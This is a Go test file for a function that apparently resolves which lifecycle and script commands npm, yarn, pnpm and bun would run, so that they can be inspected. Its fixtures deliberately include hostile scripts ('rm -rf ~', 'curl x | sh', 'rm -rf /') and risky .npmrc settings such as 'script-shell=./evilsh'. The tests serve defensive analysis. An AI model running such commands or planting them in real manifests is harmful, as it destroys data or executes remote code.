package runfiles

import (
	"reflect"
	"strings"
	"testing"
)

// pkgTree is a project whose package.json has every lifecycle script, each
// echoing its name, and a hostile test script.
func pkgTree() Map {
	return Map{
		"/p/package.json": `{"name":"p","scripts":{
			"pretest":"echo pretest","test":"rm -rf ~","posttest":"echo posttest",
			"prebuild":"echo prebuild","build":"tsc","postbuild":"echo postbuild",
			"lint":"eslint .",
			"prestart":"echo prestart","start":"node app.js","poststart":"echo poststart",
			"stop":"kill $(cat pid)","prestop":"echo prestop",
			"preinstall":"echo preinstall","install":"echo install","postinstall":"curl x | sh",
			"prepublish":"echo prepublish","preprepare":"echo preprepare","prepare":"husky","postprepare":"echo postprepare",
			"prepack":"echo prepack","postpack":"echo postpack",
			"preversion":"echo preversion","version":"echo version","postversion":"git push",
			"weird": 42,
			"ls":"echo ls script"}}`,
		"/p/sub/dir/.keep":  "",
		"/q/package.json":   `{"scripts":{"prerestart":"echo prerestart","stop":"echo stop","start":"echo start","postrestart":"echo postrestart"}}`,
		"/srv/package.json": `{"scripts":{}}`,
		"/srv/server.js":    "require('http')",
		"/gyp/package.json": `{"scripts":{"postinstall":"echo done"}}`,
		"/gyp/binding.gyp":  "{}",
		"/bad/package.json": `{"scripts": {"test": "x"`,
		"/arr/package.json": `{"scripts": ["rm -rf /"]}`,
		"/nm/node_modules":  "",
		"/nm/package.json":  "",
	}
}

func shells(r Run) []string {
	var out []string
	for _, t := range r.Texts {
		out = append(out, t.Shell)
	}
	return out
}

func TestPackageScripts(t *testing.T) {
	files := pkgTree()
	files["/nm/package.json"] = "" // replaced below: npm stops at node_modules
	delete(files, "/nm/package.json")
	files["/package.json"] = `{"scripts":{"test":"echo root"}}`
	cases := []struct {
		name, dir, manager, args string
		ok                       bool
		want                     []string
		dynamic                  string
	}{
		{"npm test runs pre and post", "/p", "npm", "test", true, []string{"echo pretest", "rm -rf ~", "echo posttest"}, ""},
		{"npm t", "/p", "npm", "t", true, []string{"echo pretest", "rm -rf ~", "echo posttest"}, ""},
		{"npm tst", "/p", "npm", "tst", true, []string{"echo pretest", "rm -rf ~", "echo posttest"}, ""},
		{"npm test args", "/p", "npm", "test -- --watch", true, []string{"echo pretest", "rm -rf ~ --watch", "echo posttest"}, ""},
		{"npm test quoted args", "/p", "npm", "test -- a;b", true, []string{"echo pretest", "rm -rf ~ 'a;b'", "echo posttest"}, ""},
		{"npm run build", "/p", "npm", "run build", true, []string{"echo prebuild", "tsc", "echo postbuild"}, ""},
		{"npm run-script", "/p", "npm", "run-script lint", true, []string{"eslint ."}, ""},
		{"npm rum", "/p", "npm", "rum lint", true, []string{"eslint ."}, ""},
		{"npm urn", "/p", "npm", "urn lint", true, []string{"eslint ."}, ""},
		{"npm run with operands", "/p", "npm", "run lint src lib", true, []string{"eslint . src lib"}, ""},
		{"npm run option is npm's", "/p", "npm", "run lint --fix", true, []string{"eslint ."}, ""},
		{"npm run after --", "/p", "npm", "run lint -- --fix", true, []string{"eslint . --fix"}, ""},
		{"npm run -- name", "/p", "npm", "run -- lint", true, []string{"eslint ."}, ""},
		{"npm run alone lists", "/p", "npm", "run", false, nil, ""},
		{"npm ls", "/p", "npm", "ls", false, nil, ""},
		{"npm view", "/p", "npm", "view react", false, nil, ""},
		{"npm view test", "/p", "npm", "view test", false, nil, ""},
		{"npm ls is no script", "/p", "npm", "ls", false, nil, ""},
		{"yarn ls script is not run: builtin", "/p", "yarn", "list", false, nil, ""},
		{"npm exec is not here", "/p", "npm", "exec -- rm", false, nil, ""},
		{"npm alone", "/p", "npm", "", false, nil, ""},
		{"npm run missing script", "/p", "npm", "run nope", true, nil, ""},
		{"npm run ignore-scripts keeps the script", "/p", "npm", "run build --ignore-scripts", true, []string{"tsc"}, ""},
		{"npm start", "/p", "npm", "start", true, []string{"echo prestart", "node app.js", "echo poststart"}, ""},
		{"npm stop", "/p", "npm", "stop", true, []string{"echo prestop", "kill $(cat pid)"}, ""},
		{"npm start server.js", "/srv", "npm", "start", true, []string{"node server.js"}, ""},
		{"npm start nothing", "/gyp", "npm", "start", true, nil, ""},
		{"npm restart without restart", "/q", "npm", "restart", true, []string{"echo prerestart", "echo stop", "echo start", "echo postrestart"}, ""},
		{"npm install lifecycle", "/p", "npm", "install", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare"}, "dependencies"},
		{"npm i", "/p", "npm", "i", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare"}, ""},
		{"npm ci", "/p", "npm", "ci", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare"}, ""},
		{"npm install ignore-scripts", "/p", "npm", "install --ignore-scripts", true, nil, ""},
		{"npm install ignore-scripts=false", "/p", "npm", "ci --ignore-scripts=false", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare"}, ""},
		{"npm install a package", "/p", "npm", "install lodash", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare"}, "dependencies"},
		{"npm add a package", "/p", "npm", "add lodash", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare"}, "dependencies"},
		{"npm install binding.gyp", "/gyp", "npm", "install", true, []string{"node-gyp rebuild", "echo done"}, ""},
		{"npm pack", "/p", "npm", "pack", true, []string{"echo prepack", "husky", "echo postpack"}, ""},
		{"npm publish", "/p", "npm", "publish", true, []string{"echo prepack", "husky", "echo postpack"}, ""},
		{"npm version", "/p", "npm", "version patch", true, []string{"echo preversion", "echo version", "git push"}, ""},
		{"npm install-test", "/p", "npm", "it", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare", "echo pretest", "rm -rf ~", "echo posttest"}, ""},
		{"npm --prefix", "/elsewhere", "npm", "--prefix /p run lint", true, []string{"eslint ."}, ""},
		{"npm --prefix relative", "/", "npm", "run lint --prefix p", true, []string{"eslint ."}, ""},
		{"npm -C", "/", "npm", "-C p run lint", true, []string{"eslint ."}, ""},
		{"npm --prefix missing", "/p", "npm", "--prefix /none test", true, nil, ""},
		{"npm upward", "/p/sub/dir", "npm", "run lint", true, []string{"eslint ."}, ""},
		{"npm stops at node_modules", "/nm", "npm", "test", true, nil, ""},
		{"npm -w unknown workspace", "/p", "npm", "test -w pkg-a", true, nil, "workspace"},
		{"npm --workspaces", "/p", "npm", "run lint --workspaces", true, []string{"eslint ."}, "workspace"},
		{"npm undeclared option takes a value", "/p", "npm", "--foo bar test", true, []string{"echo pretest", "rm -rf ~", "echo posttest"}, ""},
		{"npm -- before the verb", "/p", "npm", "-- test", true, []string{"echo pretest", "rm -rf ~", "echo posttest"}, ""},
		{"npm abbreviation", "/p", "npm", "tes", true, []string{"echo pretest", "rm -rf ~", "echo posttest"}, ""},
		{"npm script-shell", "/p", "npm", "run lint --script-shell bash", true, []string{"eslint ."}, "another shell"},
		{"not a string", "/p", "npm", "run weird", true, nil, "not a string"},
		{"bad JSON", "/bad", "npm", "test", true, nil, "not JSON"},
		{"scripts not an object", "/arr", "npm", "test", true, nil, "not an object"},
		{"yarn alone installs", "/p", "yarn", "", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare"}, ""},
		{"yarn script", "/p", "yarn", "build --watch", true, []string{"echo prebuild", "tsc --watch", "echo postbuild"}, ""},
		{"yarn run", "/p", "yarn", "run lint --fix", true, []string{"eslint . --fix"}, ""},
		{"yarn test", "/p", "yarn", "test", true, []string{"echo pretest", "rm -rf ~", "echo posttest"}, ""},
		{"yarn builtin wins", "/p", "yarn", "why lodash", false, nil, ""},
		{"yarn missing script runs the program", "/p", "yarn", "nope", true, []string{"nope"}, ""},
		{"yarn --cwd", "/", "yarn", "--cwd p lint", true, []string{"eslint ."}, ""},
		{"yarnpkg path", "/p", "/usr/bin/yarnpkg", "lint", true, []string{"eslint ."}, ""},
		{"pnpm script", "/p", "pnpm", "lint", true, []string{"eslint ."}, ""},
		{"pnpm ls is builtin", "/p", "pnpm", "ls", false, nil, ""},
		{"pnpm test", "/p", "pnpm", "test", true, []string{"echo pretest", "rm -rf ~", "echo posttest"}, ""},
		{"pnpm run", "/p", "pnpm", "run build", true, []string{"echo prebuild", "tsc", "echo postbuild"}, ""},
		{"pnpm install", "/p", "pnpm", "install", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare"}, ""},
		{"pnpm -C", "/", "pnpm", "-C p lint", true, []string{"eslint ."}, ""},
		{"pnpm -r", "/p", "pnpm", "-r lint", true, []string{"eslint ."}, "workspace"},
		{"pnpm ignore-scripts", "/p", "pnpm", "install --ignore-scripts", true, nil, ""},
		{"bun run", "/p", "bun", "run lint", true, []string{"eslint ."}, ""},
		{"bun run file missing", "/p", "bun", "run index.ts", true, nil, ""},
		{"bun run file", "/p", "bun", "run main.ts", true, []string{"console.log(1)"}, ""},
		{"bun run binary", "/p", "bun", "run sometool", true, nil, "package binary"},
		{"bun script", "/p", "bun", "lint --fix", true, []string{"eslint . --fix"}, ""},
		{"bun build is the bundler", "/p", "bun", "build", false, nil, ""},
		{"bun test is bun's", "/p", "bun", "test", false, nil, ""},
		{"bun install", "/p", "bun", "install", true, []string{"echo preinstall", "echo install", "curl x | sh", "echo prepublish", "echo preprepare", "husky", "echo postprepare"}, ""},
		{"unknown manager", "/p", "cargo", "test", false, nil, ""},
		{"root package", "/p/sub", "pnpm", "--dir /x test", true, nil, ""},
	}
	files["/p/main.ts"] = "console.log(1)"
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			run, ok := PackageScripts(files, c.dir, c.manager, strings.Fields(c.args))
			if ok != c.ok {
				t.Fatalf("ok = %v, want %v (%+v)", ok, c.ok, run)
			}
			if got := shells(run); !reflect.DeepEqual(got, c.want) {
				t.Errorf("texts = %q, want %q", got, c.want)
			}
			if c.dynamic != "" && !strings.Contains(strings.Join(append(run.Dynamic, run.Outside...), "\n"), c.dynamic) {
				t.Errorf("dynamic = %q, want one with %q", run.Dynamic, c.dynamic)
			}
		})
	}
}

func TestPackageScriptsNpmrc(t *testing.T) {
	for _, c := range []struct {
		npmrc, manager, dynamic string
	}{
		{"script-shell=./evilsh\n", "npm", "script-shell=./evilsh"},
		{"node-options = --require ./hook.js\n", "pnpm", "node-options=--require ./hook.js"},
		{"registry=https://registry.example\n", "npm", ""},
		{"script-shell=./evilsh\n", "yarn", ""},
	} {
		files := Map{"/p/package.json": `{"scripts":{"ok":"echo ok"}}`, "/p/.npmrc": c.npmrc}
		run, _ := PackageScripts(files, "/p", c.manager, []string{"run", "ok"})
		got := strings.Join(run.Dynamic, "; ")
		if c.dynamic == "" && got != "" || c.dynamic != "" && !strings.Contains(got, c.dynamic) {
			t.Errorf("%s with .npmrc %q: dynamic %q, want %q", c.manager, c.npmrc, got, c.dynamic)
		}
	}
}

func TestPackageScriptsUnreadable(t *testing.T) {
	run, ok := PackageScripts(errFiles{err: ErrTooLarge}, "/p", "npm", []string{"test"})
	if !ok || len(run.Texts) != 0 || len(run.Unread) != 1 || !strings.Contains(run.Unread[0], "too large") {
		t.Errorf("too large: %v %+v", ok, run)
	}
	run, ok = PackageScripts(errFiles{err: ErrNotRegular}, "/p", "npm", []string{"test"})
	if !ok || len(run.Unread) != 1 || !strings.Contains(run.Unread[0], "not a regular") {
		t.Errorf("fifo: %v %+v", ok, run)
	}
}

func TestPackageScriptsSource(t *testing.T) {
	run, _ := PackageScripts(pkgTree(), "/p", "npm", []string{"run", "lint"})
	if len(run.Texts) != 1 || run.Texts[0].Source != "package.json script lint" || run.Texts[0].Lang != "" {
		t.Errorf("texts = %+v", run.Texts)
	}
}

// errFiles fails every read with err.
type errFiles struct{ err error }

func (e errFiles) Read(p string) (string, error) { return "", e.err }
